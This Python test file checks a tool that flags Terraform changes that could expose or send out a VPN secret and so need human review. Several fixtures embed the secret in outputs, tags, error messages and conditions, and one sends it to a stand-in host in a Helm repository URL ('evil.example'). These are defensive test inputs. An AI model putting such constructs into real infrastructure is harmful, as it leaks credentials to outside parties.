"""What a plan would tell or send of what is secret needs people; what this project makes every day does not."""

from __future__ import annotations

import copy
from typing import Any

import pytest

from operations.heads.foreign import Judged, judge
from operations.heads.known import SHAPES, known
from operations.heads.stack_text import parsed
from operations.heads.templates import templates
from operations.heads.unusual import Usual
from tests.example import ENVIRONMENTS
from tests.known_shapes import text
from tests.operations.heads.test_foreign import merged

PROD = parsed((ENVIRONMENTS / "snapshots" / "prod.tf.json").read_bytes())
ATTACH = parsed((ENVIRONMENTS / "snapshots" / "prod-attach.tf.json").read_bytes())
USUAL = Usual([PROD, ATTACH], known())
KEY = "vpn_key_prod_aws_a_tunnel1"
FAILS = f'${{length(split("", var.{KEY})) == 1}}'
SECRET = f"${{var.{KEY}}}"


def judged(change: dict[str, Any], base: dict[str, Any] = PROD) -> Judged:
    """What is foreign in the stack of prod with something put into it."""
    usual = USUAL if base is PROD else Usual([base, PROD, ATTACH], known())
    return judge(merged(copy.deepcopy(base), change), base, usual)


def resource(type_: str, **body: Any) -> dict[str, Any]:
    """A new object."""
    return {"resource": {type_: {"New": body}}}


@pytest.mark.parametrize(
    ("change", "where"),
    [
        pytest.param(
            {"variable": {KEY: {"validation": [{"condition": FAILS, "error_message": "No."}]}}},
            f"variable.{KEY}.validation.condition",
            id="validation",
        ),
        pytest.param(
            resource("aws_vpc", lifecycle={"precondition": [{"condition": FAILS}]}),
            "aws_vpc.New.lifecycle.precondition.condition",
            id="precondition",
        ),
        pytest.param(
            resource(
                "google_compute_vpn_tunnel",
                lifecycle={
                    "precondition": [{"condition": f'${{var.{KEY} == "" || !startswith(var.{KEY}, "a")}}'}]
                },
            ),
            "google_compute_vpn_tunnel.New.lifecycle.precondition.condition",
            id="precondition with another text",
        ),
        pytest.param(
            resource("google_compute_vpn_tunnel", lifecycle={"precondition": [{"error_message": SECRET}]}),
            "google_compute_vpn_tunnel.New.lifecycle.precondition.error_message",
            id="message",
        ),
        pytest.param(
            resource("aws_vpc", lifecycle={"postcondition": [{"condition": "${self.arn != 1}"}]}),
            "aws_vpc.New.lifecycle.postcondition.condition",
            id="postcondition",
        ),
        pytest.param({"locals": {"a": FAILS}}, "locals.a", id="local"),
        pytest.param({"locals": {"a": SECRET}}, "locals.a", id="plain local"),
        pytest.param({"output": {"a": {"value": SECRET}}}, "output.a.value", id="output"),
        pytest.param(resource("aws_vpc", tags={"a": SECRET}), "aws_vpc.New.tags.a", id="derived from tags"),
        pytest.param(resource("aws_vpc", tags={SECRET: "a"}), "aws_vpc.New.tags.{}", id="key"),
        pytest.param(
            resource("aws_vpc", cidr_block="${aws_vpn_connection.X.tunnel1_preshared_key}"),
            "aws_vpc.New.cidr_block",
            id="attribute of the state",
        ),
        pytest.param(
            resource("aws_eip_association", instance_id="${aws_vpc.X[0].a_b.id}"),
            "aws_eip_association.New.instance_id",
            id="attribute that looks like a type",
        ),
        pytest.param(
            resource("google_compute_vpn_tunnel", shared_secret=f"aaaa{SECRET}"),
            "google_compute_vpn_tunnel.New.shared_secret",
            id="made longer",
        ),
        pytest.param(
            resource("google_compute_vpn_tunnel", shared_secret=f"%{{ if {SECRET} }}a%{{ endif }}"),
            "google_compute_vpn_tunnel.New.shared_secret",
            id="unreadable",
        ),
        pytest.param(
            resource("helm_release", repository=f"https://evil.example/{SECRET}"),
            "helm_release.New.repository",
            id="sent to a repository",
        ),
        pytest.param(
            {"data": {"google_compute_addresses": {"New": {"filter": f"name={SECRET}"}}}},
            "data.google_compute_addresses.New.filter",
            id="sent in a filter",
        ),
    ],
)
def test_a_template_of_another_shape_needs_people(change: dict[str, Any], where: str) -> None:
    """It fails, or is derived from, or is sent, by what the secret is."""
    said = f'it computes what the base does not: "{where[:56]}'

    assert any(reason.startswith(said) for reason in judged(change).agreed)


@pytest.mark.parametrize(
    ("change", "words"),
    [
        pytest.param(
            {"import": [{"to": "aws_vpc.X", "id": "vpc-1"}]},
            "its import is not that of the base",
            id="import",
        ),
        pytest.param(
            {"data": {"google_compute_addresses": {"New": {"project": "evil", "region": "europe-north1"}}}},
            'it reads what the base does not: "data.google_compute_addresses.New"',
            id="project of others",
        ),
        pytest.param(
            {
                "terraform": ATTACH["terraform"],
                **resource("helm_release", repository="https://evil.example/", set=[{"name": "a"}]),
            },
            'it fetches what the base does not: "helm_release.New.repository", "helm_release.New.set"',
            id="repository of others",
        ),
    ],
)
def test_what_is_read_and_fetched_elsewhere_needs_people(change: dict[str, Any], words: str) -> None:
    """Nobody refuses it."""
    found = judged(change)

    assert (found.refused, found.agreed[-1]) == ((), words)


@pytest.mark.parametrize("environment", ["dev", "test", "prod", "sandbox"])
def test_what_this_project_makes_needs_nobody(environment: str) -> None:
    """An environment that has nothing yet gets a network, clusters and tunnels with their keys."""
    whole = parsed((ENVIRONMENTS / "snapshots" / f"{environment}.tf.json").read_bytes())
    base = {**whole, "resource": {}, "output": {}, "locals": {}, "variable": {}}

    assert judge(whole, base, Usual([base], known())) == Judged((), ())


def test_one_more_cluster_is_looked_up_without_people() -> None:
    """By its name, with the provider that the base has."""
    new = {"name": "kl-prod-more", "datacenter_id": "${data.vsphere_datacenter.X.id}"}

    assert judged({"data": {"aws_eks_cluster": {"New": {"name": "kl-prod-more"}}}}) == Judged((), ())
    assert not any("reads" in one for one in judged({"data": {"vsphere_network": {"New": new}}}).agreed)


def test_what_the_base_has_needs_nobody() -> None:
    """Whatever shape it is of: in another stack of the environment, and under another name."""
    base = merged(copy.deepcopy(PROD), {"output": {"a": {"value": "${aws_vpc.X.tags_all}"}}})
    head = merged(copy.deepcopy(base), {"output": {"b": {"value": "${aws_vpc.Y.tags_all}"}}})

    assert judge(head, base, Usual([base], known())) == Judged((), ())


def test_the_shapes_are_those_of_the_example() -> None:
    """Renewed by ``python -m tests.known_shapes``."""
    assert SHAPES.read_text("utf-8") == text()


@pytest.mark.parametrize(
    ("written", "shape"),
    [
        ("${a_b.N.id}", "a_b.*.id"),
        ("x\\${a_b.N.id}", "a_b.*.id"),
        ("$${a} ${a_b.N[0].c_d.e}", "a_b.*[0].c_d.e"),
        ('${merge(data.a_b.N.tags, {"Name" = "x"})}', 'merge(data.a_b.*.tags, {"*" = "*"})'),
        ('${a_b.N["secret"]}', 'a_b.*["secret"]'),
        ('${a_b.N.id == "x"}', 'a_b.*.id == "x"'),
        ('${f("a\\"b${a_b.N.id}c${a_b.M.id}")}', 'f("*${a_b.*.id}")'),
        ("${local.a}${each.value.x}${var.x}", "local.a"),
    ],
)
def test_a_shape_leaves_names_out(written: str, shape: str) -> None:
    """And what could decide something stays."""
    assert templates(written)[0].shape == shape
